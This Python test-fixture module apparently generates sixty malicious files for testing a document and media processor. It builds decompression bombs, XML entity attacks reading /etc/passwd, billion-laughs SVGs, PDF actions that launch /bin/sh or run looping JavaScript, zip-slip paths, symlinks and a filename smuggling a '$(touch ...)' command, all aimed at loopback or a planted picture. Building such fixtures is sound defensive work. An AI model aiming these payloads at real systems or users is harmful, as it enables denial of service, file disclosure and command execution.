"""Sixty files made to harm whoever looks at them, five of each of twelve kinds.

Those that reach outward name a planted picture on this machine (`Outside.picture`), all of it in one colour that stands
nowhere else, or a listener on loopback.
"""

from __future__ import annotations

import io
import random
import struct
import tarfile
import zipfile
import zlib
from collections.abc import Iterator
from dataclasses import dataclass
from functools import cache
from pathlib import Path

from holub_testing import tagged
from holub_testing.tagged import (
    archive,
    atom,
    chunk,
    docx,
    drawing,
    into_moov,
    odf,
    pdf,
    relations,
    saved,
    segment,
    stream,
)

SECRET_COLOUR = (150, 0, 75)


@dataclass(frozen=True)
class Outside:
    """What a file tries to reach."""

    picture: Path
    clip: Path
    port: int

    @property
    def url(self) -> str:
        return f"http://127.0.0.1:{self.port}/secret.png"


@dataclass(frozen=True)
class Hostile:
    """One file."""

    kind: str
    name: str
    content: bytes


@cache
def bomb(megabytes: int, fill: bytes = b"\0") -> bytes:
    """A zlib stream of so many megabytes of one byte, made in a moment: one block, repeated."""
    deflate = zlib.compressobj(9, zlib.DEFLATED, -15)
    first = deflate.compress(fill * (1 << 20)) + deflate.flush(zlib.Z_FULL_FLUSH)
    again = deflate.compress(fill * (1 << 20)) + deflate.flush(zlib.Z_FULL_FLUSH)
    return b"\x78\xda" + first + again * (megabytes - 1) + b"\x03\0" + struct.pack(">I", 1)


def bombs() -> Iterator[tuple[str, bytes]]:
    header = struct.pack(">IIBBBBB", 30000, 30000, 1, 0, 0, 0, 0)
    yield "pixels.png", b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", bomb(120)) + chunk(b"IEND", b"")
    yield "text.png", tagged.with_chunk(b"zTXt", b"Author\0\0" + bomb(400))
    yield "profile.png", tagged.with_chunk(b"iCCP", b"a\0\0" + bomb(400))
    yield (
        "stream.pdf",
        pdf(objects=(b"",), content=b"").replace(
            stream(b"0.2 0.4 0.8 rg 10 10 40 30 re f"), stream(bomb(1000, b" "), "/Filter/FlateDecode")
        ),
    )
    fields = ((256, 4, 100_000), (257, 4, 100_000), (258, 3, 8), (259, 3, 8), (262, 3, 1), (273, 4, 200), (277, 3, 1), (278, 4, 100_000), (279, 4, 1_000_000))  # fmt: skip
    ifd = b"".join(struct.pack("<HHII", tag, kind, 1, value) for tag, kind, value in fields)
    tiff = b"II*\0" + struct.pack("<IH", 8, len(fields)) + ifd + b"\0" * 4
    yield "strip.tif", tiff.ljust(200, b"\0") + bomb(900)


def dimensions() -> Iterator[tuple[str, bytes]]:
    header = struct.pack(">IIBBBBB", 2**31 - 1, 2**31 - 1, 8, 6, 0, 0, 0)
    yield "header.png", b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", zlib.compress(b"\0" * 100))
    jpeg = saved("JPEG")
    at = jpeg.index(b"\xff\xc0") + 5
    yield "header.jpg", jpeg[:at] + b"\xff\xff\xff\xff" + jpeg[at + 4 :]
    yield "header.gif", b"GIF89a\xff\xff\xff\xff\x80\0\0\0\0\0\xff\xff\xff,\0\0\0\0\xff\xff\xff\xff\0\x02\x02L\x01\0;"
    bmp = bytearray(saved("BMP"))
    bmp[18:26] = struct.pack("<ii", 2**31 - 1, -(2**31) + 1)
    yield "header.bmp", bytes(bmp)
    wide = (
        b"VP8X"
        + struct.pack("<I", 10)
        + b"\0\0\0\0"
        + b"\xff" * 6
        + b"VP8L"
        + struct.pack("<I", 5)
        + b"/\xff\xff\xff\x0f\0"
    )
    yield "header.webp", b"RIFF" + struct.pack("<I", len(wide) + 4) + b"WEBP" + wide


def damaged() -> Iterator[tuple[str, bytes]]:
    noise = random.Random(7).randbytes(20_000)
    jpeg = saved("JPEG")
    yield "half.jpg", jpeg[: len(jpeg) // 2]
    png = bytearray(saved("PNG"))
    png[60:200] = noise[:140]
    yield "noise.png", bytes(png)
    film = tagged.recorded()["plain.mp4"]
    at = film.rindex(b"moov") + 100
    yield "noise.mp4", film[:at] + noise[:600] + film[at + 600 :]
    font = stream(noise, "/Length1 20000")
    objects = (
        b"<</Type/Font/Subtype/TrueType/BaseFont/A/FirstChar 65/LastChar 65/Widths[500]/FontDescriptor 11 0 R>>",
        b"<</Type/FontDescriptor/FontName/A/Flags 4/FontBBox[0 0 1 1]/ItalicAngle 0/Ascent 1/Descent 0/CapHeight 1/StemV 1"
        b"/FontFile2 12 0 R>>",
        font,
    )
    yield "font.pdf", pdf(page="/Resources<</Font<</F 10 0 R>>>>", objects=objects, content=b"BT /F 20 Tf (A) Tj ET")
    whole = docx()
    yield "half.docx", whole[: len(whole) - 60]


def loops() -> Iterator[tuple[str, bytes]]:
    yield "kids.pdf", pdf().replace(b"/Kids[3 0 R]/Count 1", b"/Kids[2 0 R 2 0 R]/Count 2000000000")
    form = stream(b"/F Do /F Do", "/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</F 10 0 R>>>>")
    yield "form.pdf", pdf(page="/Resources<</XObject<</F 10 0 R>>>>", objects=(form,), content=b"/F Do")
    yield "deep.pdf", pdf(catalog="/A " + "[" * 200_000 + "]" * 200_000)
    yield "page.pdf", pdf(box="-1e9 -1e9 1e9 1e9", content=b"0 0 1e9 1e9 re f")
    script = b"{" + b"1 1 1000000 {pop sin cos} for " * 1000 + b"}"
    function = stream(script, "/FunctionType 4/Domain[0 1 0 1]/Range[0 1 0 1 0 1]")
    shading = b"<</ShadingType 1/ColorSpace/DeviceRGB/Domain[0 1 0 1]/Function 11 0 R>>"
    yield "function.pdf", pdf(page="/Resources<</Shading<</S 10 0 R>>>>", objects=(shading, function), content=b"/S sh")


def actions(outside: Outside) -> Iterator[tuple[str, bytes]]:
    script = "app.launchURL('%s');while(1){}" % outside.url
    yield "javascript.pdf", pdf(catalog=f"/OpenAction<</S/JavaScript/JS({script})>>")
    yield "launch.pdf", pdf(catalog="/OpenAction<</S/Launch/F(/bin/sh)/Win<</F(cmd.exe)>>>>")
    yield "submit.pdf", pdf(catalog=f"/OpenAction<</S/SubmitForm/F<</FS/URL/F({outside.url})>>>>")
    shown = b"90 0 0 60 0 0 cm /Im Do"
    elsewhere = (
        f"<</Subtype/Image/Width 8/Height 8/BitsPerComponent 8/ColorSpace/DeviceRGB/Length 0/F({outside.picture})>>"
    )
    image = elsewhere.encode() + b"stream\n\nendstream"
    yield "stream-elsewhere.pdf", pdf(page="/Resources<</XObject<</Im 10 0 R>>>>", objects=(image,), content=shown)
    ref = f"<</Type/XObject/Subtype/Form/BBox[0 0 9 9]/Ref<</F({outside.picture})/Page 0>>/Length 0>>".encode()
    form = ref + b"stream\n\nendstream"
    yield "reference.pdf", pdf(page="/Resources<</XObject<</Im 10 0 R>>>>", objects=(form,), content=shown)


def put(name: str, compressed: bytes, size: int, into: bytes) -> bytes:
    """A zip with one more entry, whose data is a zlib stream as it stands: nothing of it is ever unpacked here."""
    with zipfile.ZipFile(io.BytesIO(into)) as old:
        entries = [(each, old.read(each)) for each in old.namelist() if each != name]
    out, directory, count = bytearray(), bytearray(), 0
    raw = compressed[2:-4]
    rows = [(each, zlib.compressobj(9, zlib.DEFLATED, -15), data) for each, data in entries]
    packed = [
        (each, data if each == "mimetype" else how.compress(data) + how.flush(), len(data), zlib.crc32(data))
        for each, how, data in rows
    ]
    for each, body, length, crc in [*packed, (name, raw, size, 0)]:
        fields = struct.pack(
            "<HHHHHIIIHH", 20, 0, 0 if each == "mimetype" else 8, 0, 0, crc, len(body), length, len(each), 0
        )
        directory += b"PK\x01\x02\x14\0" + fields + struct.pack("<HHHII", 0, 0, 0, 0, len(out)) + each.encode()
        out += b"PK\x03\x04" + fields + each.encode() + body
        count += 1
    end = b"PK\x05\x06\0\0\0\0" + struct.pack("<HHIIH", count, count, len(directory), len(out), 0)
    return bytes(out + directory) + end


def zips() -> Iterator[tuple[str, bytes]]:
    yield "words.docx", put("word/document.xml", bomb(2000, b" "), 2000 << 20, docx())
    yield "content.odt", put("content.xml", bomb(2000, b" "), 2000 << 20, odf("text", ""))
    yield "entries.docx", docx({f"word/{number}.xml": "" for number in range(20_000)})
    cells = '<table:table><table:table-row table:number-rows-repeated="1048576"><table:table-cell table:number-columns-repeated="1024" office:value-type="float" office:value="1"/></table:table-row></table:table>'
    yield "cells.ods", odf("spreadsheet", cells)
    inner = archive({"a": b"\0" * 1_000_000})
    for _ in range(8):
        inner = archive({str(number): inner for number in range(4)})
    yield "nested.docx", docx({"word/media/a.zip": inner})


def reaching(outside: Outside) -> Iterator[tuple[str, bytes]]:
    image = f"{tagged._RELATION}/image"
    for name, target in (("file", f"file://{outside.picture}"), ("http", outside.url)):
        rels = relations((image, target), external=True)
        yield f"linked-{name}.docx", docx({"word/_rels/document.xml.rels": rels}, drawing("r:link"))
    frame = (
        '<text:p><draw:frame xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0" '
        'xmlns:svg="urn:oasis:names:tc:opendocument:xmlns:svg-compatible:1.0" svg:width="5cm" svg:height="4cm" '
        f'text:anchor-type="as-char"><draw:image xlink:href="file://{outside.picture}" xlink:type="simple"/></draw:frame></text:p>'
    )
    yield "linked.odt", odf("text", frame)
    field = r"{\field{\*\fldinst INCLUDEPICTURE " "%s" " \\d}{\fldrslt x}}" % outside.picture
    yield (
        "field.rtf",
        (r"{\rtf1 a " + field + r"{\field{\*\fldinst INCLUDETEXT " "/etc/passwd" "}{\fldrslt y}}}").encode(),
    )
    entity = f'<?xml version="1.0"?><!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd"><!ENTITY % y SYSTEM "{outside.url}">%y;]>'
    body = f"{entity}<w:document {tagged._W}><w:body><w:p><w:r><w:t>&x;</w:t></w:r></w:p></w:body></w:document>"
    yield "entity.docx", docx({"word/document.xml": body})


def playlists(outside: Outside) -> Iterator[tuple[str, bytes]]:
    path = outside.clip
    yield "list.m3u8", f"#EXTM3U\n#EXTINF:1,\nfile://{path}\n#EXTINF:1,\n{outside.url}\n#EXT-X-ENDLIST\n".encode()
    yield "list.ffconcat", f"ffconcat version 1.0\nfile '{path}'\nfile '{outside.url}'\n".encode()
    yield "list.sdp", f"v=0\nc=IN IP4 127.0.0.1\nm=video {outside.port} RTP/AVP 96\na=rtpmap:96 H264/90000\n".encode()
    url = atom(b"url ", b"\0\0\0\0" + f"file://{path}\0".encode())
    film = tagged.recorded()["tags.mov"]
    inner = atom(b"url ", b"\0\0\0\1")
    assert inner in film or b"alis" in film
    at = film.rindex(b"moov") - 4
    yield "elsewhere.mov", film[:at] + film[at:].replace(inner, url[: len(inner)]).replace(b"\0\0\0\1", b"\0\0\0\0", 1)
    avi = tagged.recorded()["tags.avi"]
    yield (
        "subtitles.avi",
        avi + b"LIST" + struct.pack("<I", 200) + b"GAB2\0\2\0" + f"#EXTM3U\nfile://{path}\n".encode().ljust(193, b"\0"),
    )


def drawings(outside: Outside) -> Iterator[tuple[str, bytes]]:
    head = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="90" height="60">'
    image = f'{head}<image width="90" height="60" xlink:href="file://{outside.picture}"/></svg>'
    yield "image.svg", image.encode()
    yield (
        "entity.svg",
        f'<!DOCTYPE s [<!ENTITY x SYSTEM "file:///etc/passwd">]>{head}<text y="20">&x;</text></svg>'.encode(),
    )
    laughs = "".join(f'<!ENTITY a{n + 1} "{f"&a{n};" * 10}">' for n in range(12))
    yield "laughs.svg", f'<!DOCTYPE s [<!ENTITY a0 "ha">{laughs}]>{head}<text>&a12;</text></svg>'.encode()
    yield "script.svg", f"{head}<script>fetch('{outside.url}')</script></svg>".encode()
    types = docx()
    rels = relations((f"{tagged._RELATION}/image", "media/a.svg"))
    with_svg = {"word/media/a.svg": image, "word/_rels/document.xml.rels": rels}
    with zipfile.ZipFile(io.BytesIO(types)) as old:
        listed = old.read("[Content_Types].xml").decode()
    svg = '<Default Extension="svg" ContentType="image/svg+xml"/><Override'
    yield "drawing.docx", docx(with_svg | {"[Content_Types].xml": listed.replace("<Override", svg, 1)}, drawing())


def polyglots() -> Iterator[tuple[str, bytes]]:
    yield "pdf-in.jpg", tagged.with_segment(0xFE, pdf())
    yield "zip-behind.png", saved("PNG") + docx()
    yield (
        "script.gif",
        saved("GIF").replace(b"GIF87a", b"GIF89a") + b"*/=1;fetch('//127.0.0.1');/*<script>alert(1)</script>",
    )
    yield "page.bmp", saved("BMP") + b"<html><script>alert(1)</script></html>"
    yield "pdf-in.mp4", tagged.recorded()["plain.mp4"] + atom(b"free", pdf())


def endless() -> Iterator[tuple[str, bytes]]:
    gif = saved("GIF")
    frame = gif[13 + 3 * 2 ** ((gif[10] & 7) + 1) : -1]
    yield "frames.gif", gif[:-1] + frame * 5000 + b";"
    tiff = bytearray(saved("TIFF"))
    at = struct.unpack("<I", tiff[4:8])[0]
    count = struct.unpack("<H", tiff[at : at + 2])[0]
    tiff[at + 2 + 12 * count : at + 6 + 12 * count] = struct.pack("<I", at)
    yield "directory.tif", bytes(tiff)
    film = tagged.recorded()["plain.mp4"]
    at = film.rindex(b"mvhd") + 4
    long = bytearray(film)
    long[at + 12 : at + 20] = struct.pack(">II", 1, 2**32 - 1)
    stts = film.rindex(b"stts") + 4
    long[stts + 8 : stts + 16] = struct.pack(">II", 2**31 - 1, 1)
    yield "duration.mp4", bytes(long)
    wav = tagged.recorded()["plain.wav"]
    yield "size.wav", wav[:4] + b"\xff" * 4 + wav[8:40] + b"\xff" * 4 + wav[44:] + bytes(20_000_000)
    deep = "<w:p><w:r><w:t>a</w:t></w:r></w:p>"
    for _ in range(12):
        deep = deep * 3 if len(deep) < 100_000 else deep
    nested = "<w:tbl><w:tr><w:tc>" * 3000 + "<w:p/>" + "</w:tc></w:tr></w:tbl>" * 3000
    yield "tables.docx", docx(body=nested)


def names(outside: Outside) -> Iterator[tuple[str, bytes]]:
    link = zipfile.ZipInfo("word/media/a.png")
    link.create_system, link.external_attr = 3, 0o120777 << 16
    image = f"{tagged._RELATION}/image"
    rels = relations((image, "media/a.png"))
    out = io.BytesIO(docx({"word/_rels/document.xml.rels": rels}, drawing()))
    with zipfile.ZipFile(out, "a") as made:
        made.writestr(link, str(outside.picture))
    yield "link.docx", out.getvalue()
    climbing = relations((image, "../../../../../../" + str(outside.picture)))
    slip = {f"../../../../../../tmp/holub-slipped-{n}": "x" for n in range(3)}
    yield "climbing.docx", docx(slip | {"word/_rels/document.xml.rels": climbing}, drawing())
    rels = relations((image, "media/$(touch%20holub-ran).jpg"))
    named = {"word/media/$(touch holub-ran).jpg": saved("JPEG"), "word/_rels/document.xml.rels": rels}
    yield "command.docx", docx(named, drawing())
    packed = io.BytesIO()
    with tarfile.open(fileobj=packed, mode="w") as tar:
        entry = tarfile.TarInfo("a.jpg")
        entry.type, entry.linkname = tarfile.SYMTYPE, str(outside.picture)
        tar.addfile(entry)
    yield "link.tar", packed.getvalue()
    yield "path.jpg", b"\xff\xd8\xff\xe0" + str(outside.picture).encode()


def hostile_files(outside: Outside) -> tuple[Hostile, ...]:
    """All of them."""
    kinds = {
        "bombs": bombs(),
        "dimensions": dimensions(),
        "damaged": damaged(),
        "loops": loops(),
        "actions": actions(outside),
        "zips": zips(),
        "reaching": reaching(outside),
        "playlists": playlists(outside),
        "drawings": drawings(outside),
        "polyglots": polyglots(),
        "endless": endless(),
        "names": names(outside),
    }
    return tuple(Hostile(kind, name, content) for kind, files in kinds.items() for name, content in files)
